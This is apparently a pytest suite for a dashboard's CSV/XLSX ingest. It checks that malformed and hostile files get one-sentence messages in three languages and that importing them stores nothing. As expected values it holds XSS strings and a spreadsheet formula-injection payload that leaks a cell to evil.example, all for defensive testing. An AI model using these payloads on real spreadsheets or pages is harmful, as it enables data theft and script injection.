"""The hostile corpus: broken and hostile files each get the message they deserve, in Swedish, English and Chinese,
naming the file (and the row and column when it is about a cell); importing any of them stores nothing.

The small files are in tests/corpus/ (written by tests/corpus/make_corpus.py); the big ones are made here in
tmp_path. The real-world CSVs beside the repository (shared/data/real-world-csv; skipped where absent) are refused
without a column mapping and give typed rows or precise problems with one.
"""

from __future__ import annotations

import io
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from cooperation.cli import main
from cooperation.ingest import IngestResult, ingest_bytes
from cooperation.mapping import file_headers, suggest_mapping

ROOT = Path(__file__).resolve().parent.parent
CORPUS = Path(__file__).resolve().parent / "corpus"
LANGS = ("sv", "en", "zh")

# file -> the problems it must give first, in order: (key, row, column); None where the problem has none.
# `readable`: False when the file cannot be read at all (one sentence, exit status 2).
EXPECTED: dict[str, tuple[bool, list[tuple[str, int | None, str | None]]]] = {
    # cannot be read at all
    "empty.csv": (False, [("problem.empty_file", None, None)]),
    "whitespace_only.csv": (False, [("problem.empty_file", None, None)]),
    "agreements_binary.csv": (False, [("problem.binary", None, None)]),
    "agreements_pdf_renamed.csv": (False, [("problem.not_table", None, None)]),
    "deals_png_renamed.csv": (False, [("problem.not_table", None, None)]),
    "deals_gzip_renamed.csv": (False, [("problem.not_table", None, None)]),
    "zip_not_a_workbook.csv": (False, [("problem.not_table", None, None)]),
    "agreements_html_page.csv": (False, [("problem.not_table", None, None)]),
    "deals_json_renamed.csv": (False, [("problem.not_table", None, None)]),
    "broken_workbook.xlsx": (False, [("problem.xlsx_broken", None, None)]),
    "truncated_workbook.xlsx": (False, [("problem.xlsx_broken", None, None)]),
    "deals_old_excel.xls": (False, [("problem.xls_old", None, None)]),
    "empty_workbook_sheet.xlsx": (False, [("problem.empty_sheet", None, None)]),
    "prose_notes.txt": (False, [("problem.unknown_kind", None, None)]),
    "unknown_columns_only.csv": (False, [("problem.unknown_kind", None, None)]),
    # the header
    "agreements_header_only.csv": (True, [("problem.no_rows", None, None)]),
    "agreements_pipe_delimited.csv": (True, [("problem.one_column", None, "date|title|dalarna_party|hubei_party")]),
    "agreements_no_header.csv": (True, [("problem.needs_mapping", None, None),
                                        ("problem.unknown_column", None, "2013")]),
    "agreements_duplicate_column.csv": (True, [("problem.duplicate_column", None, "Titel")]),
    "agreements_missing_required_column.csv": (True, [("problem.missing_column", None, "hubei_party")]),
    "agreements_unknown_column.csv": (True, [("problem.unknown_column", None, "colour"),
                                             ("problem.required", 2, "hubei_party")]),
    # cells
    "agreements_impossible_date.csv": (True, [("problem.date_impossible", 3, "date")]),
    "agreements_excel_serial_date.csv": (True, [("problem.date_excel_serial", 2, "date")]),
    "agreements_ambiguous_date.csv": (True, [("problem.date_ambiguous", 2, "date")]),
    "agreements_date_before_2000.csv": (True, [("problem.required", 3, "hubei_party"),
                                               ("problem.date_too_early", 2, "date"),
                                               ("problem.date_too_early", 3, "date")]),
    "visits_future_date.csv": (True, [("problem.date_future", 3, "date"), ("problem.date_future", 3, "end_date"),
                                      ("problem.end_before_start", 3, "end_date")]),
    "deals_negative_value.csv": (True, [("problem.below_minimum", 2, "value")]),
    "deals_non_numeric_value.csv": (True, [("problem.not_a_number", 2, "value")]),
    "deals_ambiguous_number.csv": (True, [("problem.number_ambiguous", 2, "value")]),
    "deals_value_without_currency.csv": (True, [("problem.currency_missing", 2, "currency")]),
    "deals_unknown_currency.csv": (True, [("problem.not_allowed", 2, "currency")]),  # and not "missing" too
    "places_coordinates_out_of_range.csv": (True, [("problem.above_maximum", 3, "lat"),
                                                   ("problem.below_minimum", 4, "lon")]),
    "visits_participants_not_whole.csv": (True, [("problem.not_whole", 2, "participants")]),
    "visits_direction_not_allowed.csv": (True, [("problem.not_allowed", 2, "direction")]),
    "agreements_duplicate_ids.csv": (True, [("problem.duplicate_id", 4, "id")]),
    "agreements_required_cell_empty.csv": (True, [("problem.required", 2, "title")]),
    "agreements_extra_values.csv": (True, [("problem.extra_values", 2, None)]),
    "agreements_quoted_newlines.csv": (True, [("problem.date_impossible", 3, "date")]),  # row 3 though line 4
    "agreements_unbalanced_quotes.csv": (True, [("problem.unclosed_quote", 2, None),
                                                ("problem.required", 2, "dalarna_party")]),
    "agreements_formula_cells.csv": (True, [("problem.date_impossible", 4, "date"),
                                            ("problem.formula_like", 2, "title"),
                                            ("problem.formula_like", 3, "title"),  # @
                                            ("problem.formula_like", 4, "title"),
                                            ("problem.formula_like", 3, "dalarna_party"),  # +
                                            ("problem.formula_like", 3, "hubei_party")]),  # -
    "agreements_html_js_in_names.csv": (True, [("problem.date_impossible", 3, "date")]),
    "agreements_utf16_without_bom.csv": (True, [("problem.date_impossible", 3, "date")]),
    "agreements_utf16_with_bom_tabs.csv": (True, [("problem.required", 2, "hubei_party")]),
    "agreements_mixed_encodings.csv": (True, [("problem.mixed_encoding", None, None),
                                              ("problem.date_impossible", 4, "date")]),
    "deals_swedish_excel.csv": (True, [("problem.number_ambiguous", 3, "value")]),
    "workbook_bad_cells.xlsx": (True, [("problem.date_excel_serial", 4, "date"),
                                       ("problem.below_minimum", 4, "value")]),
    # hostile characters, links and kinds (issue 12)
    "agreements_nul_bytes.csv": (True, [("problem.invisible_removed", 2, "title")]),
    "agreements_nul_after_4kb.csv": (True, [("problem.invisible_removed", 122, "title")]),
    "agreements_invisible_characters.csv": (True, [("problem.invisible_removed", 2, "date"),
                                                   ("problem.invisible_removed", 2, "dalarna_party"),
                                                   ("problem.invisible_removed", 2, "hubei_party")]),
    "organisations_javascript_website.csv": (True, [("problem.unsafe_link", 2, "website")]),
    "export_without_hubei_party.csv": (True, [("problem.missing_column", None, "hubei_party")]),
    "export_kind_guessed.csv": (True, [("problem.kind_guessed", None, None)]),
}
# Read and accepted, with a warning for each hostile character removed (row and column named).
ACCEPTED = {"agreements_nul_bytes.csv", "agreements_nul_after_4kb.csv", "agreements_invisible_characters.csv"}
REFUSED = sorted(set(EXPECTED) - ACCEPTED)


def ingest(name: str, data: bytes | None = None, **kw: object) -> IngestResult:
    return ingest_bytes((CORPUS / name).read_bytes() if data is None else data, name, upload=True,
                        **kw)  # type: ignore[arg-type]


def assert_clear(problem, filename: str) -> None:
    """In every language: one sentence naming the file, and the row and column when the problem has them."""
    for lang in LANGS:
        message = problem.message(lang)
        assert message.startswith(filename), message
        assert "\n" not in message and "{" not in message, message
        if problem.row is not None:
            assert re.search(rf"\b{problem.row}\b", message), message
        if problem.column is not None:
            assert problem.column in message, message
    assert re.search(r"[\u4e00-\u9fff]", problem.message("zh")), problem.message("zh")
    assert problem.message("sv") != problem.message("en")


def test_the_corpus_is_complete() -> None:
    files = sorted(p.name for p in CORPUS.iterdir() if p.is_file() and p.suffix != ".py")
    assert files == sorted(EXPECTED)
    assert len(files) >= 40


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_each_file_gets_its_message(name: str) -> None:
    readable, expected = EXPECTED[name]
    result = ingest(name)
    assert result.readable is readable
    assert result.accepted is (name in ACCEPTED)
    assert [(p.key, p.row, p.column) for p in result.problems[:len(expected)]] == expected
    if not readable:
        assert len(result.problems) == 1
    for problem in result.problems:
        assert_clear(problem, name)


def test_what_is_read_from_hostile_files_is_kept_as_inert_text() -> None:
    result = ingest("agreements_html_js_in_names.csv")
    first = result.frame.iloc[0]
    assert (first["title"], first["dalarna_party"], first["hubei_party"]) == (
        '<script>alert("x")</script>', "<img src=x onerror=alert(1)>", "<b>Wuhan</b>")
    formulas = ingest("agreements_formula_cells.csv").frame.set_index("row")
    assert formulas.loc[2, "title"] == '=HYPERLINK("http://evil.example/?x="&A1;"klick")'
    assert formulas.loc[3, "dalarna_party"] == "+46 23 123"


def test_encodings_and_rows_of_the_corpus() -> None:
    assert ingest("agreements_utf16_without_bom.csv").encoding == "utf-16-le"
    assert ingest("agreements_utf16_without_bom.csv").frame.loc[0, "hubei_party"] == "武汉市"
    mixed = ingest("agreements_mixed_encodings.csv")
    assert mixed.encoding == "utf-8+cp1252"
    assert list(mixed.frame["title"][:2]) == ["Vänort", "Avtal i Säter"]
    assert mixed.problems[0].params == {"line": 3}
    assert "Windows-1252 från rad 3" in mixed.problems[0].message("sv")
    swedish = ingest("deals_swedish_excel.csv")
    assert (swedish.encoding, swedish.delimiter) == ("cp1252", ";")
    assert swedish.frame.set_index("row").loc[2, "value"] == 1234.5
    assert ingest("workbook_bad_cells.xlsx").encoding == "xlsx"
    assert list(ingest("agreements_quoted_newlines.csv").frame["row"]) == [2, 3]


# --- big files, made at test time ------------------------------------------------------------------------------


def test_a_200_mb_file_is_refused_at_once(tmp_path: Path) -> None:
    path = tmp_path / "agreements_huge.csv"
    row = b"2013,Avtal,Borlange kommun,Wuhan\n"
    with open(path, "wb") as handle:
        handle.write(b"date,title,dalarna_party,hubei_party\n")
        block = row * (1024 * 1024 // len(row) + 1)
        for _ in range(200):
            handle.write(block)
    assert path.stat().st_size > 200 * 1024 * 1024
    status, out = run_cli("validate", str(path), "--lang", "en")
    assert status == 2
    assert out.strip().endswith("agreements_huge.csv: the file is 200 MB, more than the limit of 50 MB; split it into "
                                "smaller files.")
    result = ingest_bytes(path.read_bytes(), path.name)
    assert [p.key for p in result.problems] == ["problem.too_large"]
    for problem in result.problems:
        assert_clear(problem, path.name)


def test_a_million_rows_is_more_than_the_limit() -> None:
    data = b"date,title,dalarna_party,hubei_party\n" + b"2013,A,X,Y\n" * 1_000_000
    result = ingest_bytes(data, "agreements_million.csv")
    assert not result.readable
    assert [(p.key, p.params) for p in result.problems] == [("problem.too_many_rows", {"limit": "200,000"})]
    assert_clear(result.problems[0], "agreements_million.csv")


def test_100_kb_cells_are_refused_with_their_row_and_column() -> None:
    cell = "x" * 100_000
    data = f"date,title,dalarna_party,hubei_party\n2013,A,X,Y\n2013,{cell},X,Y\n".encode()
    result = ingest_bytes(data, "agreements_wide.csv")
    assert [(p.key, p.row, p.column) for p in result.problems] == [("problem.too_long", 3, "title")]
    problem = result.problems[0]
    assert problem.params == {"length": "100,000", "limit": "10,000"}
    assert len(problem.value or "") <= 61  # the value is shown shortened
    assert_clear(problem, "agreements_wide.csv")
    quoted = f'date,title,dalarna_party,hubei_party\n2013,"{cell * 2}",X,Y\n'.encode()  # over the csv field limit
    too_long = ingest_bytes(quoted, "agreements_wider.csv").problems
    assert [(p.key, p.row) for p in too_long] == [("problem.cell_too_long_to_read", 2)]
    assert_clear(too_long[0], "agreements_wider.csv")


# --- import stores nothing ---------------------------------------------------------------------------------------


def run_cli(*args: str) -> tuple[int, str]:
    out, err = io.StringIO(), io.StringIO()
    status = main(list(args), out=out, err=err)
    return status, out.getvalue() + err.getvalue()


def test_importing_any_corpus_file_stores_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from cooperation.store import Store

    url = f"sqlite:///{tmp_path / 'store.sqlite'}"
    monkeypatch.setenv("DASHBOARD_DATABASE_URL", url)
    with Store(url) as store:
        before, history = store.dataset(), store.history()
    for name in REFUSED:
        status, out = run_cli("import", str(CORPUS / name), "--author", "hostile", "--lang", "en")
        assert status == (1 if EXPECTED[name][0] else 2), (name, out)
    # and all at once (one batch or none)
    status, _ = run_cli("import", *(str(CORPUS / name) for name in sorted(EXPECTED)))
    assert status == 2
    with Store(url) as store:
        after, history_after = store.dataset(), store.history()
    assert history_after == history
    for kind, frame in before.frames.items():
        pd.testing.assert_frame_equal(after.frames[kind], frame)


def test_python_dash_m_import_exits_non_zero_on_a_hostile_file(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'store.sqlite'}"
    done = subprocess.run([sys.executable, "-m", "cooperation", "import", str(CORPUS / "agreements_binary.csv"),
                           str(CORPUS / "agreements_impossible_date.csv"), "--lang", "en"], cwd=ROOT,
                          capture_output=True, text=True, timeout=120,
                          env={"PATH": "/usr/bin:/bin", "DASHBOARD_DATABASE_URL": url})
    assert done.returncode == 2, done.stderr
    assert "the file is not text" in done.stdout
    assert "Nothing was stored" in done.stdout


# --- real-world files --------------------------------------------------------------------------------------------


REAL_FILES = ["aiddata_china_geocoded_v1.1/transactions.csv", "aiddata_china_geocoded_v1.1/projects_first2000.csv",
              "aiddata_china_geocoded_v1.1/locations_first2000.csv", "region_dalarna_exportperinv.csv",
              "scb_bilinnehav_dalarna_kommuner.csv"]


@pytest.mark.parametrize("name", REAL_FILES)
def test_real_world_files_are_refused_without_a_mapping(name: str, real_world: Path) -> None:
    data = (real_world / name).read_bytes()
    result = ingest_bytes(data, Path(name).name, upload=True)
    assert not result.accepted
    assert [p.key for p in result.problems] == ["problem.unknown_kind"]
    assert "map the file's columns" in result.problems[0].message("en")
    assert_clear(result.problems[0], Path(name).name)
    told = ingest_bytes(data, Path(name).name, kind="deal", upload=True)
    assert not told.accepted
    keys = [p.key for p in told.problems]
    assert "problem.missing_column" in keys
    assert keys[0] == "problem.needs_mapping" or "transactions" in name or "projects" in name or "locations" in name


def test_aiddata_transactions_mapped_to_deals(real_world: Path) -> None:
    data = (real_world / "aiddata_china_geocoded_v1.1/transactions.csv").read_bytes()
    suggested = suggest_mapping(file_headers(data, "transactions.csv"), "deal")
    assert suggested["transaction_currency"] == "currency" and suggested["transaction_value"] == "value"
    # the analyst's choice: the year (the ISO date is always empty), the project as title; no parties in the file
    mapping = {"transaction_year": "date", "project_id": "title", "transaction_id": "id",
               "transaction_value": "value", "transaction_currency": "currency", "transaction_isodate": "",
               "transaction_value_code": ""}
    result = ingest_bytes(data, "transactions.csv", kind="deal", mapping=mapping, upload=True)
    assert [(p.key, p.column) for p in result.errors] == [("problem.missing_column", "dalarna_party"),
                                                           ("problem.missing_column", "hubei_party")]
    # with parties taken from other columns, the rows are typed
    mapping |= {"transaction_value_code": "dalarna_party", "transaction_isodate": ""}
    rows = ingest_bytes(data, "transactions.csv", kind="deal", upload=True,
                        mapping=mapping | {"project_id": "hubei_party", "transaction_id": "title"})
    assert rows.readable and len(rows.frame) == 1967
    assert rows.frame.loc[0, "date"] == "2008" and rows.frame.loc[0, "value"] == 396886331
    assert rows.frame.loc[0, "currency"] == "USD"
    for problem in rows.problems:
        assert_clear(problem, "transactions.csv")


def test_aiddata_projects_mapped_give_precise_problems_named_by_the_files_headers(real_world: Path) -> None:
    data = (real_world / "aiddata_china_geocoded_v1.1/projects_first2000.csv").read_bytes()
    mapping = {"start_actual_isodate": "date", "project_title": "title", "donors": "dalarna_party",
               "recipients": "hubei_party", "total_commitments": "value", "status": "status"}
    result = ingest_bytes(data, "projects.csv", kind="deal", mapping=mapping, upload=True)
    assert len(result.frame) == 2000
    errors = {(p.key, p.column) for p in result.errors}
    assert ("problem.required", "start_actual_isodate") in errors  # the analyst's header, not `date`
    assert ("problem.not_allowed", "status") in errors  # "Completion" is not a deal status
    assert ("problem.currency_missing", "currency") in errors  # no currency column in the file
    first = next(p for p in result.errors if p.key == "problem.required")
    assert first.row == 2 and "start_actual_isodate" in first.message("zh")


def test_region_dalarna_latin1_file_is_read_and_mapped(real_world: Path) -> None:
    data = (real_world / "region_dalarna_exportperinv.csv").read_bytes()
    headers = file_headers(data, "exportperinv.csv")
    assert headers[3] == "Lan_namn"
    result = ingest_bytes(data, "exportperinv.csv", kind="place", upload=True,
                          mapping={"Lan_namn": "name", "AstLan": "region", "Ar": "country", "RegExpVarde": "lat",
                                   "bef_20_64ar": "lon"})
    assert result.encoding in ("cp1252", "latin_1", "iso8859_1", "iso-8859-1")
    assert "Stockholms län" in set(result.frame["name"].dropna())
    problems = {(p.key, p.column) for p in result.errors}
    assert ("problem.above_maximum", "RegExpVarde") in problems  # export values are no latitudes
